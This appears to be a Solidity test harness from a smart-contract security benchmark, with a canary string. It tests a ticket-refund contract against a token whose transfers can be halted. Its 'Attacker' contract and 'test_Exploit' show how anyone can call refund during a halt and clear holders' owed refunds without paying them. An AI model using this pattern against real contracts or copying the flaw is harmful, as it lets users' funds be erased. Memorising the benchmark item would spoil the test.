// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./ShowRefunds.sol";

// assay-canary-67234a14-366b-411a-8731-792305837787

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert() external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// A token whose issuer halts all transfers from time to time.
contract HaltedToken is ERC20 {
    address private immutable issuer = msg.sender;
    bool public halted;

    constructor() ERC20("Club", "CLB") {
        _mint(msg.sender, 10_000e18);
    }

    function halt(bool on) external {
        require(msg.sender == issuer, "issuer only");
        halted = on;
    }

    function _update(address from, address to, uint256 amount) internal override {
        require(!halted, "halted");
        super._update(from, to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant ORGANIZER = address(0x09E);
    uint256 private constant START = 1_700_000_000;

    HaltedToken private token;
    ShowRefunds private show;
    ShowRefunds private other;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new HaltedToken();
        show = open();
        other = open();
        buy(show, ANA, 10);
        buy(show, BEN, 5);
        vm.prank(ORGANIZER);
        show.cancel();
        token.halt(true);
        mallory = new Attacker(show, ANA, BEN);
    }

    function open() private returns (ShowRefunds made) {
        made = new ShowRefunds(token, 20e18, START + 10 days, address(this));
        made.grantRole(made.ORGANIZER_ROLE(), ORGANIZER);
    }

    function buy(ShowRefunds at, address who, uint256 count) private {
        token.transfer(who, count * 20e18);
        vm.startPrank(who);
        token.approve(address(at), count * 20e18);
        at.buy(count);
        vm.stopPrank();
    }

    function both() private pure returns (address[] memory list) {
        list = new address[](2);
        list[0] = ANA;
        list[1] = BEN;
    }

    function test_Regular() public {
        token.halt(false);
        require(owed() == 300e18, "owed");
        show.refund(both());
        require(token.balanceOf(ANA) == 200e18 && token.balanceOf(BEN) == 100e18 && owed() == 0, "refunded");
        show.refund(both());
        require(token.balanceOf(address(show)) == 0, "once");

        buy(other, ANA, 3);
        vm.warp(START + 10 days);
        vm.prank(ORGANIZER);
        other.collect(ORGANIZER);
        require(token.balanceOf(ORGANIZER) == 60e18, "collected");
        require(other.ticketsOf(ANA) == 3 && !other.cancelled(), "held");

        bytes32 role = show.ORGANIZER_ROLE();
        show.revokeRole(role, ORGANIZER);
        require(!show.hasRole(role, ORGANIZER), "revoked");
        show.grantRole(role, BEN);
        vm.prank(BEN);
        show.renounceRole(role, BEN);
    }

    function test_RefusesOpening() public {
        vm.expectRevert("ShowRefunds: no price");
        new ShowRefunds(token, 0, START + 1, ANA);
        vm.expectRevert("ShowRefunds: begun");
        new ShowRefunds(token, 1, START, ANA);
        vm.expectRevert("ShowRefunds: no admin");
        new ShowRefunds(token, 1, START + 1, address(0));
    }

    function test_RefusesBuyers() public {
        token.halt(false);
        vm.startPrank(BEN);
        vm.expectRevert("ShowRefunds: cancelled");
        show.buy(1);
        vm.expectRevert();
        other.buy(1);
        vm.expectRevert("ShowRefunds: not cancelled");
        other.refund(both());
        vm.warp(START + 10 days);
        vm.expectRevert("ShowRefunds: begun");
        other.buy(0);
        vm.stopPrank();
    }

    function test_RefusesOrganizers() public {
        token.halt(false);
        vm.startPrank(ORGANIZER);
        vm.expectRevert("ShowRefunds: not begun");
        other.collect(ORGANIZER);
        vm.warp(START + 10 days);
        vm.expectRevert("ShowRefunds: cancelled");
        show.collect(ORGANIZER);
        vm.expectRevert("ShowRefunds: begun");
        other.cancel();
        vm.stopPrank();
    }

    function test_RefusesPayment() public {
        token.halt(false);
        buy(other, ANA, 1);
        token.halt(true);
        vm.warp(START + 10 days);
        vm.prank(ORGANIZER);
        vm.expectRevert("halted");
        other.collect(ORGANIZER);
    }

    function test_RefusesStrangers() public {
        bytes32 role = show.ORGANIZER_ROLE();
        bytes memory denied = abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, BEN, role);
        vm.startPrank(BEN);
        vm.expectRevert(denied);
        other.cancel();
        vm.warp(START + 10 days);
        vm.expectRevert(denied);
        other.collect(BEN);
        denied = abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, BEN, bytes32(0));
        vm.expectRevert(denied);
        other.grantRole(role, BEN);
        vm.expectRevert(denied);
        other.revokeRole(role, ORGANIZER);
        vm.stopPrank();
    }

    /// What the holders of the cancelled show have yet to receive.
    function owed() public view returns (uint256) {
        return (show.ticketsOf(ANA) + show.ticketsOf(BEN)) * show.PRICE();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(owed() == 0, "still owed");
    }

    function target() public view returns (address) {
        return address(show);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ShowRefunds private show;
    address[] private holders;

    constructor(ShowRefunds s, address a, address b) {
        show = s;
        holders.push(a);
        holders.push(b);
    }

    function run() external {
        show.refund(holders);
    }
}
